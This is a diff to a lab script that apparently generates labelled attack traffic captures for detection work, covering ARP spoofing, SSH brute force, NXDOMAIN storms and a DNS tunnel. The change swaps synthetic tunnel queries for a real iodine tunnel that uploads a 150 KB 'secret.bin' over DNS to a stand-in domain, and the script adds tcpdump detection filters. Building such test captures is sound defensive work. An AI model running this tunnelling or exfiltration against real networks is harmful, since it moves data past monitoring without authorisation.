@@ -24,7 +24,7 @@ ip netns del "nl-probe-$$"
 
 missing=()
 for tool in ip ethtool tcpdump capinfos python3 nmap hping3 arp-scan arpspoof hydra iperf3 mosquitto \
-    mosquitto_pub mosquitto_sub redis-server redis-cli redis-benchmark /usr/sbin/sshd ssh sshpass dig dnsmasq \
+    mosquitto_pub mosquitto_sub iodine iodined redis-server redis-cli redis-benchmark /usr/sbin/sshd ssh sshpass dig dnsmasq \
     curl openssl unshare; do
     command -v "$tool" >/dev/null || missing+=("$tool")
 done
@@ -105,19 +105,23 @@ sc_arp_spoof() {
     wait "$spoof" || true
 }
 
-# DNS tunnel: long base32 labels under one domain, mostly TXT and NULL (iodine/dnscat style).
+# DNS tunnel with iodine: the client in .21 reaches iodined outside only through the LAN's
+# resolver (-r: no direct UDP), then uploads 150 KB over HTTP through the tunnel (IP over DNS).
 sc_dns_tunnel() {
-    python3 - "$WORK/tunnel.batch" "$SRV" <<'PY'
-import base64, os, sys
-types = ["TXT", "TXT", "NULL", "A", "TXT", "CNAME"]
-with open(sys.argv[1], "w") as f:
-    for i in range(300):
-        data = base64.b32encode(os.urandom(60)).decode().rstrip("=").lower()
-        labels = ".".join(data[j:j + 48] for j in range(0, len(data), 48))
-        f.write(f"@{sys.argv[2]} -t {types[i % len(types)]} {labels}.{i:04x}.t.badtunnel.net\n")
-PY
-    tool lab_in c21 timeout 60 dig +tries=1 +time=1 -f "$WORK/tunnel.batch"
+    # -m: fixed downstream fragment size (the autoprobe costs seconds of timeouts).
+    lab_in c21 timeout 40 iodine -f -r -m 1000 -P "$LAB_TUNNEL_PASSWORD" "$SRV" t.badtunnel.net >"$PCAPS/iodine.log" 2>&1 &
+    local tun=$! i
+    for i in $(seq 1 200); do  # bounded wait until the tunnel carries data
+        grep -q "Connection setup complete" "$PCAPS/iodine.log" && break
+        kill -0 "$tun" 2>/dev/null || break
+        sleep 0.1
+    done
+    head -c 150000 /dev/urandom >"$WORK/secret.bin"
+    tool lab_in c21 curl -sS -m 20 -T "$WORK/secret.bin" "http://$LAB_TUNNEL_NET.1/upload/secret.bin"
+    kill -TERM "$tun" 2>/dev/null || true
+    wait "$tun" || true
 }
+
 # DGA-like random names that do not exist: a storm of NXDOMAIN answers.
 sc_nxdomain_storm() {
     python3 - "$WORK/dga.batch" "$SRV" <<'PY'
@@ -297,7 +301,7 @@ scenario arp_scan arp_scan "$ATT" - "arp and arp[6:2]==1 and arp[14:4]==$(HEX_IP
 scenario arp_spoof arp_spoof "$ATT" "$LAB_NET.20" \
     "arp and arp[6:2]==2 and ether src $ATT_MAC and arp[14:4]==$(HEX_IP "$LAB_ROUTER_IP")" 3
 # Tunnel queries are long (> 150 bytes on the wire); NXDOMAIN = rcode 3 in the DNS flags.
-scenario dns_tunnel dns_tunnel "$LAB_NET.21" - "src host $LAB_NET.21 and udp dst port 53 and greater 150" 300
+scenario dns_tunnel dns_tunnel "$LAB_NET.21" - "src host $LAB_NET.21 and udp dst port 53 and greater 150" 150
 scenario nxdomain_storm nxdomain_storm "$LAB_NET.22" - "udp src port 53 and udp[11] & 0x0f == 3" 290
 scenario brute_force_hydra brute_force "$ATT" "$SRV" "src host $ATT and $SYN and tcp dst port 22" 10
 scenario brute_force_sshpass brute_force "$ATT" "$SRV" "src host $ATT and $SYN and tcp dst port 22" 20
